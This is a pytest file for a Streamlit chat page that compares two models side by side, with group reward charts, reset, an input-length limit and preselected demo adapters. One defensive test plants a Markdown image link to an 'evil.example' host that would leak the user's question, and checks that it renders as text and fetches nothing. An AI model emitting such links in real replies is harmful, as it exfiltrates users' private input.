"""Chat page (AppTest): two models side by side on the tiny base, replies, rating charts, reset, safety."""

from __future__ import annotations

import json

import pytest
from streamlit.testing.v1 import AppTest

from pluralign_core import paths
from pluralign_core.rewards.training import train_group_reward_models
from pluralign_core.store.database import Store
from pluralign_core.store.selection import RaterSelection
from tests.chat.test_chat import make_adapter

pytestmark = pytest.mark.usefixtures("one_torch_thread")


def open_chat() -> AppTest:
    at = AppTest.from_file(str(paths.REPO_ROOT / "app.py"), default_timeout=90)
    at.run()
    at.switch_page("pages/chat.py").run()
    assert not at.exception, at.exception
    return at


def test_two_models_reply_side_by_side_with_group_charts(chat_store: Store) -> None:
    for gender in ("woman", "man"):
        train_group_reward_models(chat_store, "planted", RaterSelection({"gender": (gender,)}), ["toxicity"])
    at = open_chat()
    models = at.multiselect(key="chat_models")
    assert models.value == ["base", "adapter-women"]
    assert set(at.multiselect(key="chat_groups").value) == {"gender=woman", "gender=man"}
    at.number_input(key="chat_max_tokens").set_value(8)
    at.slider(key="chat_temperature").set_value(0.0)
    at.chat_input(key="chat_input").set_value("<b>Why</b> are people rude?").run()
    assert not at.exception, at.exception
    histories = at.session_state["chat_histories"]
    assert set(histories) == {"base", "adapter-women"}
    replies = [histories[k][-1] for k in ("base", "adapter-women")]
    assert all(r["role"] == "assistant" for r in replies)
    assert replies[0]["content"] != replies[1]["content"]
    assert {(r["group"], r["dimension"]) for r in replies[0]["ratings"]} == {
        ("gender=woman", "toxicity"),
        ("gender=man", "toxicity"),
    }
    charts = at.get("plotly_chart")
    assert len(charts) == 2
    figure = json.loads(charts[0].proto.spec)
    assert {trace["name"] for trace in figure["data"]} == {"gender=woman", "gender=man"}
    decoding = [c.value for c in at.caption if c.value.startswith("Decoding: ")]
    assert len(decoding) == 2  # each column says which decoding path served it
    user_messages = [m for m in at.text if m.value == "<b>Why</b> are people rude?"]
    assert len(user_messages) == 2 and not any(m.proto.allow_html for m in at.markdown)

    at.button(key="chat_reset").click().run()
    assert at.session_state["chat_histories"] == {}
    assert not at.get("plotly_chart")


def test_over_long_input_is_refused_with_a_message(chat_store: Store) -> None:
    at = open_chat()
    at.chat_input(key="chat_input").set_value("x" * 5000).run()
    assert any("limit is 4,000" in e.value for e in at.error)
    assert at.session_state["chat_histories"] == {}


def test_offers_to_train_default_group_reward_models(chat_store: Store) -> None:
    at = open_chat()
    assert any("No group reward models" in i.value for i in at.info)
    at.button(key="chat_train_rewards").click().run()
    assert not at.exception, at.exception
    assert set(at.multiselect(key="chat_groups").options) == {"gender=woman", "gender=man"}
    assert len(chat_store.artifacts("reward_model", "planted")) == 4  # 2 groups x 2 dimensions


def test_a_reply_with_an_image_link_is_shown_as_text_and_fetches_nothing(chat_store: Store) -> None:
    """Review finding 7: Markdown turned ``![](https://evil.example/?q=...)`` in a reply into an <img>."""
    leak = "Sure. ![x](https://evil.example/leak?q=my+secret+question)"
    at = AppTest.from_file(str(paths.REPO_ROOT / "app.py"), default_timeout=90)
    at.run()
    at.session_state["chat_histories"] = {
        "base": [
            {"role": "user", "content": "my secret question"},
            {"role": "assistant", "content": leak, "ratings": []},
        ]
    }
    at.switch_page("pages/chat.py").run()
    assert not at.exception, at.exception
    assert leak in [element.value for element in at.text]
    assert not [m.value for m in at.markdown if "evil.example" in m.value]


def test_opens_with_the_demo_models_preselected_and_captioned(
    chat_store: Store, tiny_model_dir, tmp_path
) -> None:
    from pluralign_core.experiments import demo

    adapters = {}
    for seed, group in enumerate(("liberal", "conservative"), start=2):
        path = make_adapter(tiny_model_dir, tmp_path / group, seed=seed)
        artifact_id = f"adapter-demo-{group}"
        chat_store.register_artifact(
            "adapter",
            demo.adapter_label(group),
            path=path,
            config={"base_model": str(tiny_model_dir)},
            artifact_id=artifact_id,
        )
        adapters[group] = {"artifact_id": artifact_id, "path": str(path), "label": demo.adapter_label(group)}
    folder = demo.demo_folder(demo.DemoConfig(dataset_id="planted"))
    demo.write_state(
        folder,
        {
            "state": "completed",
            "dataset_id": "planted",
            "finished": 1.0,
            "steps": {"start": {"model_dir": str(tiny_model_dir)}, "adapters": adapters},
        },
    )
    at = open_chat()
    models = at.multiselect(key="chat_models")
    assert models.value == ["adapter-demo-liberal", "adapter-demo-conservative"]
    assert "Unaligned start (deliberately unaligned teaching model)" in models.options  # offered, not chosen
    assert "women-dpo (adapter-women)" in models.options
    captions = [c.value for c in at.caption]
    assert any(
        c.startswith("Tuned on liberal raters' toxicity preferences (from the unaligned start).")
        for c in captions
    )
    assert any("conservative raters'" in c and "deliberately unaligned teaching model" in c for c in captions)

    at.number_input(key="chat_max_tokens").set_value(4)
    at.slider(key="chat_temperature").set_value(0.0)
    at.chat_input(key="chat_input").set_value("Hello?").run()
    assert not at.exception, at.exception
    histories = at.session_state["chat_histories"]
    assert set(histories) == {"adapter-demo-liberal", "adapter-demo-conservative"}
    assert (
        histories["adapter-demo-liberal"][-1]["content"]
        != histories["adapter-demo-conservative"][-1]["content"]
    )
